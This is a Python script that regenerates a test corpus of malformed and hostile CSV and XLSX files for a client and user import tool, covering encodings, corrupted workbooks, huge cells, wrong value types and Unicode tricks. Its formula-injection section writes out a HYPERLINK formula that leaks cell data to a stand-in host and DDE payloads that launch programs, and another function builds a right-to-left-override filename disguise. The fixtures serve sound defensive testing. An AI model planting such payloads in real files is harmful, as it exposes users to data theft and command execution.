"""Regenerate the bad-input corpus: `python tests/cases/make_bad_inputs.py`.

The files people really bring, and the files an attacker would: every encoding the tool
reads with every delimiter, broken and disguised workbooks, garbage, empty files, huge cells,
formula injection, 10,000 copies of one e-mail address, and a wrong kind of value in every
column. tests/badinput runs each through `validate` and `run`. Every file is committed; this
script rebuilds them byte for byte (fixed seeds and timestamps). The files of make_cases.py
are not touched.
"""

from __future__ import annotations

import datetime as dt
import io
import random
import zipfile
from pathlib import Path

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

HERE = Path(__file__).resolve().parent
STAMP = (2024, 1, 1, 0, 0, 0)

CLIENT_HEADER = ["client_id", "client_name", "client_email", "manager_email", "room_type", "tags"]
CLIENTS = [
    [
        "C-20001",
        "Müller & Söhne GmbH",
        "info@mueller.example.de",
        "maria@northwind.example",
        "",
        "",
    ],
    [
        "C-20002",
        "Café Lumière",
        "bonjour@lumiere.example.fr",
        "kenji@northwind.example",
        "custom",
        "",
    ],
    [
        "C-20003",
        "Łódź Żurawie S.A.",
        "biuro@zurawie.example.pl",
        "amara@northwind.example",
        "",
        "pl",
    ],
]
USER_HEADER = ["email", "first_name", "last_name", "type", "room", "access", "culture"]
USERS = [
    ["zoe@mueller.example.de", "Zoë", "Schröder", "user", "", "", "de-DE"],
    ["jose@lumiere.example.fr", "José", "Núñez", "user", "", "", "fr-FR"],
    ["intern@northwind.example", "", "", "", "", "", ""],
]
# cp1252 cannot write "Łódź Żurawie": that file gets the Western European rows only.
CLIENTS_CP1252 = [
    CLIENTS[0],
    CLIENTS[1],
    ["C-20004", "Björk Œuvre SARL", "hej@bjork.example", "lukas@northwind.example", "", ""],
]

ENCODINGS = {
    "utf8": ("utf-8", b""),
    "utf8bom": ("utf-8", b"\xef\xbb\xbf"),
    "cp1252": ("cp1252", b""),
    "utf16le": ("utf-16-le", b"\xff\xfe"),
    "utf16be": ("utf-16-be", b"\xfe\xff"),
}
DELIMITERS = {"comma": ",", "semicolon": ";", "tab": "\t", "pipe": "|"}


def _quote(cell: str, delimiter: str) -> str:
    if any(c in cell for c in (delimiter, '"', "\n", "\r")):
        return '"' + cell.replace('"', '""') + '"'
    return cell


def text(rows: list[list[str]], delimiter: str = ",", newline: str = "\r\n") -> str:
    return "".join(delimiter.join(_quote(c, delimiter) for c in row) + newline for row in rows)


def write(name: str, data: bytes | str) -> None:
    (HERE / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def fixed_zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name, date_time=STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return out.getvalue()


def one_sheet(title: str, rows: list[list[str]]) -> tuple[Workbook, Worksheet]:
    """A workbook of one sheet, `title`, holding `rows`; the sheet, to add more."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for row in rows:
        sheet.append(row)
    return book, sheet


def workbook_bytes(book: Workbook) -> bytes:
    """openpyxl's output with fixed timestamps, so the bytes do not change between builds."""
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    parts = {}
    for item in source.infolist():
        content = source.read(item.filename)
        if item.filename == "docProps/core.xml":
            content = _fixed_dates(content)
        parts[item.filename] = content
    return fixed_zip(parts)


def _fixed_dates(content: bytes) -> bytes:
    import re

    return re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", content)


# ---- every encoding with every delimiter ---------------------------------------------------


def encodings() -> None:
    """enc_<encoding>_<delimiter>.csv: clients for the odd delimiters, people for the others;
    valid rows with accented names, to prove the text arrives intact."""
    for enc_name, (codec, bom) in ENCODINGS.items():
        for delim_name, delimiter in DELIMITERS.items():
            if delim_name in ("comma", "tab"):
                rows = [CLIENT_HEADER, *(CLIENTS_CP1252 if codec == "cp1252" else CLIENTS)]
            else:
                rows = [USER_HEADER, *USERS]
            write(f"enc_{enc_name}_{delim_name}.csv", bom + text(rows, delimiter).encode(codec))
    # Old Mac line ends (CR only), and UTF-16 without its byte-order mark.
    write("enc_utf8_cr_only.csv", text([USER_HEADER, *USERS], ",", "\r"))
    write("enc_utf16le_nobom_comma.csv", text([USER_HEADER, *USERS], ",").encode("utf-16-le"))


# ---- unusable files ------------------------------------------------------------------------


def broken_files() -> None:
    rng = random.Random(20240601)
    write("bad_empty.xlsx", b"")
    write("bad_whitespace_only.csv", b"\r\n   \n\t\t\n\r\n")
    write("bad_bom_only.csv", b"\xef\xbb\xbf")
    write("bad_binary_garbage.xlsx", bytes(rng.randrange(256) for _ in range(4096)))
    write(
        "bad_png_named.csv", b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(1024))
    )
    write(
        "bad_nul_bytes.csv",
        b"email,first_name\x00,last_name\r\n\x00\x00\x00wile@acme.example\x00,W,C\r\n",
    )
    write("bad_only_delimiters.csv", b",,,,,,\r\n,,,,,,\r\n;;;;\r\n")
    write("bad_json_named.csv", b'[{"email": "wile@acme.example.com", "first_name": "Wile"}]\n')
    write(
        "bad_html_export.xlsx",
        b"<html><body><table><tr><td>email</td><td>first_name</td></tr>"
        b"<tr><td>wile@acme.example.com</td><td>Wile</td></tr></table></body></html>\n",
    )

    book, _ = one_sheet("users", [USER_HEADER, *USERS])
    good = workbook_bytes(book)
    parts = {
        i.filename: zipfile.ZipFile(io.BytesIO(good)).read(i.filename)
        for i in zipfile.ZipFile(io.BytesIO(good)).infolist()
    }

    # A zip with the parts of a workbook but no xl/workbook.xml.
    write(
        "bad_zip_no_workbook.xlsx",
        fixed_zip({k: v for k, v in parts.items() if k != "xl/workbook.xml"}),
    )
    # The sheet's XML cut off in the middle of a row.
    sheet_xml = parts["xl/worksheets/sheet1.xml"]
    write(
        "bad_sheet_xml.xlsx",
        fixed_zip({**parts, "xl/worksheets/sheet1.xml": sheet_xml[: len(sheet_xml) * 2 // 3]}),
    )
    # Bytes flipped inside the compressed sheet: the zip's checksum no longer matches.
    damaged = bytearray(good)
    start = good.index(b"xl/worksheets/sheet1.xml") + 40
    for offset in range(start, start + 24):
        damaged[offset] ^= 0x5A
    write("bad_zip_crc.xlsx", bytes(damaged))
    # A Word document renamed to .xlsx.
    write(
        "bad_docx_named.xlsx",
        fixed_zip(
            {
                "[Content_Types].xml": b"<Types/>",
                "word/document.xml": b"<w:document/>",
            }
        ),
    )


# ---- rows that are wrong, one way or another -----------------------------------------------


def huge_cells() -> None:
    """A 1 MB client name (CSV) and a 1 MB first name (XLSX); a 20,000-column header."""
    name = "Acme " + "A" * (1024 * 1024)
    write(
        "bad_huge_cell.csv",
        text(
            [
                CLIENT_HEADER,
                ["C-30001", name, "contact@acme.example.com", "maria@northwind.example", "", ""],
                ["C-30002", "Globex", "ops@globex.example.com", "kenji@northwind.example", "", ""],
            ]
        ),
    )
    book, sheet = one_sheet("users", [USER_HEADER])
    sheet.append(["big@acme.example.com", "B" * (1024 * 1024), "Big", "user", "", "", ""])
    sheet.append(["small@acme.example.com", "Small", "Person", "user", "", "", ""])
    write("bad_huge_cell.xlsx", workbook_bytes(book))
    header = ["email", *(f"extra_{n}" for n in range(20_000))]
    write("bad_many_columns.csv", text([header, ["wide@acme.example.com", *([""] * 20_000)]]))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


def formula_injection() -> None:
    """Formula-like text in every column a report echoes: names, ids, tags, extra columns."""
    header = [*CLIENT_HEADER, '=HYPERLINK("http://evil.example","x")', "@notes"]
    rows = [header]
    for n, formula in enumerate(FORMULAS):
        rows.append(
            [
                f"C-4000{n}",
                formula,
                f"contact{n}@acme.example.com",
                "maria@northwind.example",
                "",
                "",
                formula,
                formula,
            ]
        )
    # The same text in the id and in the e-mail columns: invalid, and echoed back as such.
    rows.append(["=1+2", "Bad id", "=cmd@evil.example", "+maria@northwind.example", "", "", "", ""])
    write("bad_formula_injection.csv", text(rows))

    book, clients = one_sheet("clients", [CLIENT_HEADER])
    # Real formula cells (openpyxl stores a string starting with "=" as a formula) ...
    clients.append(
        [
            "C-40101",
            '=HYPERLINK("http://evil.example","Acme")',
            "a@acme.example.com",
            "maria@northwind.example",
            "",
            "",
        ]
    )
    clients.append(["C-40102", "=1+1", "b@acme.example.com", "maria@northwind.example", "", ""])
    # ... and formula-like text stored as text.
    for n, formula in enumerate(FORMULAS[1:4]):
        clients.append(
            [f"C-4020{n}", formula, f"t{n}@acme.example.com", "maria@northwind.example", "", ""]
        )
        clients.cell(row=clients.max_row, column=2).data_type = "s"
    write("bad_formula_injection.xlsx", workbook_bytes(book))


def duplicate_emails() -> None:
    """10,000 people with one and the same e-mail address."""
    rows = [USER_HEADER]
    rows.extend(
        ["same.person@acme.example.com", "Same", f"Person {_letters(n)}", "user", "", "", ""]
        for n in range(10_000)
    )
    write("bad_duplicate_emails.csv", text(rows, newline="\n"))


def _letters(n: int) -> str:
    """0 → a, 25 → z, 26 → ba: a name part without digits."""
    out = ""
    while True:
        n, digit = divmod(n, 26)
        out = chr(97 + digit) + out
        if not n:
            return out.capitalize()


def wrong_kinds() -> None:
    """A wrong kind of value in every column, one column per row."""
    good_client = [
        "C-50000",
        "Acme",
        "contact@acme.example.com",
        "maria@northwind.example",
        "",
        "",
        "",
        "",
    ]
    header = [*CLIENT_HEADER[:4], "room_title", "room_type", "client_access", "tags"]
    wrong_client = {
        0: "",  # client_id missing
        1: "",  # client_name missing
        2: "TRUE",  # client_email: a boolean
        3: "12345",  # manager_email: a number
        4: "T" * 300,  # room_title: longer than the portal allows
        5: "42",  # room_type: a number that is no room type
        6: "yes",  # client_access: not an access level
        7: "a" * 200,  # tags: a tag longer than the portal allows
    }
    rows = [header]
    for column, value in wrong_client.items():
        row = list(good_client)
        row[0] = f"C-5{column:04d}" if column else value
        row[column] = value
        row[2] = f"c{column}@acme.example.com" if column != 2 else value
        rows.append(row)
    write("bad_wrong_kinds_clients.csv", text(rows))

    good_user = ["person@acme.example.com", "Wile", "Coyote", "user", "", "", "en-US"]
    wrong_user = {
        0: "not an address",  # email
        1: "12.5",  # first_name without a last name
        2: "",  # last_name missing while first_name is there
        3: "superuser",  # type
        4: "C-99999",  # room: no such client and no such room
        5: "maybe",  # access
        6: "xx-YY-ZZ",  # culture
    }
    rows = [USER_HEADER]
    for column, value in wrong_user.items():
        row = list(good_user)
        row[0] = f"person{column}@acme.example.com"
        row[column] = value
        if column == 5:
            row[4] = ""  # an access without a room
        rows.append(row)
    write("bad_wrong_kinds_users.csv", text(rows))

    # The same in a workbook, with the cell types only a workbook has.
    book, clients = one_sheet("clients", [CLIENT_HEADER])
    clients.append([60001, "Numbers Inc", 3.14, True, 7, None])
    clients.append(
        [
            "C-60002",
            dt.datetime(2024, 3, 5),
            "dates@acme.example.com",
            dt.date(2024, 1, 1),
            "custom",
            12,
        ]
    )
    clients.append(
        ["C-60003", False, "bools@acme.example.com", "maria@northwind.example", True, False]
    )
    clients.append(["C-60004", "Errors", "#N/A", "#DIV/0!", "#VALUE!", "#REF!"])
    users = book.create_sheet("users")
    users.append(USER_HEADER)
    users.append([42, "Answer", "Deep", "user", "", "", ""])
    users.append(
        ["time@acme.example.com", dt.time(12, 30), dt.datetime(2024, 1, 1, 8), 4, 60001, 10, 1033]
    )
    users.append(["err@acme.example.com", "#NAME?", "#NULL!", "#NUM!", "#N/A", "#REF!", "#VALUE!"])
    write("bad_wrong_kinds.xlsx", workbook_bytes(book))


def control_characters() -> None:
    """C0 control characters inside names (the file is refused as binary), and a file of
    Unicode tricks: a right-to-left override, zero-width characters, emoji, a no-break
    space inside an e-mail address."""
    rows = [
        USER_HEADER,
        ["ctl@acme.example.com", "Null\x01Byte", "Bell\x07", "user", "", "", ""],
        ["ok@acme.example.com", "Plain", "Person", "user", "", "", ""],
    ]
    write("bad_control_chars.csv", text(rows))
    rows = [
        USER_HEADER,
        ["rtl@acme.example.com", "Evil\u202egnp.exe", "Name", "user", "", "", ""],
        ["zw@acme.example.com", "Zero\u200bWidth", "Joiner\u200d", "user", "", "", ""],
        ["emoji@acme.example.com", "Party 🎉", "Person", "user", "", "", ""],
        ["bad\u00a0space@acme.example.com", "Non", "Breaking", "user", "", "", ""],
        ["plain@acme.example.com", "Plain", "Person", "user", "", "", ""],
    ]
    write("bad_unicode_tricks.csv", text(rows))


def report_column_names() -> None:
    """Extra input columns named like the report's own columns: their values must survive."""
    header = [*CLIENT_HEADER[:4], "status", "error", "requests", "room_id"]
    rows = [
        header,
        [
            *("C-70001", "Acme", "contact@acme.example.com", "maria@northwind.example"),
            *("vip", "none so far", "many", "legacy-17"),
        ],
    ]
    write("bad_report_column_names.csv", text(rows))


if __name__ == "__main__":
    encodings()
    broken_files()
    huge_cells()
    formula_injection()
    duplicate_emails()
    wrong_kinds()
    control_characters()
    report_column_names()
    print(f"bad inputs written to {HERE}")
